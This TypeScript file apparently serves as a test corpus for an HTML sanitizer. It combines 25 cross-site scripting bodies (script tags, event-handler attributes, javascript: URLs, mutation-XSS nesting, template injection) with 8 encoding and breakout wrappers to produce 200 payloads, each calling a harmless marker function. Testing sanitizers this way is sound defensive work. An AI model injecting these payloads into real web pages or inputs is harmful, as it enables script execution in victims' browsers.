/** Ways in which a text tries to become a script, 200 in all: what is said, in every dress in which it is tried. */
const bodies = [
  '<script>ran()</script>', '<ScRiPt src=data:,ran()></sCrIpT>', '<img src=x onerror=ran()>', '<svg/onload=ran()>', '<svg><script>ran()</script></svg>', '<iframe srcdoc="<script>parent.ran()</script>"></iframe>', '<iframe src=javascript:parent.ran()></iframe>',
  '<a href="javascript:ran()" autofocus onfocus=ran()>x</a>', '<details open ontoggle=ran()>', '<input autofocus onfocus=ran()>', '<body onload=ran()>', '<video><source onerror=ran()></video>', '<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<object data="javascript:ran()"></object>', '<embed src=javascript:ran()>', '<form action=javascript:ran()><button autofocus onfocus=ran()>', '<marquee onstart=ran()>', '<style>@import "javascript:ran()"</style>', '<link rel=stylesheet href=data:text/css,*{x:expression(ran())}>', '<base href=javascript:ran()//>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">', '{{constructor.constructor("ran()")()}}', '${ran()}', 'javascript:ran()', '<template><script>ran()</script></template>',
]
const dresses: readonly ((body: string) => string)[] = [
  (body) => body, (body) => `"><!--${body}-->${body}`, (body) => `</textarea></title></script>${body}`, (body) => `' onmouseover='ran()' x='${body}`, (body) => encodeURIComponent(body),
  (body) => body.replaceAll('<', '&lt;').replaceAll('>', '&#62;'), (body) => body.replaceAll('<', '\u003c\u200b').replaceAll('(', '\uff08') + body, (body) => `]]>\u2028</script>${body}\u202e`,
]

export const payloads: readonly string[] = dresses.flatMap((dress) => bodies.map(dress))
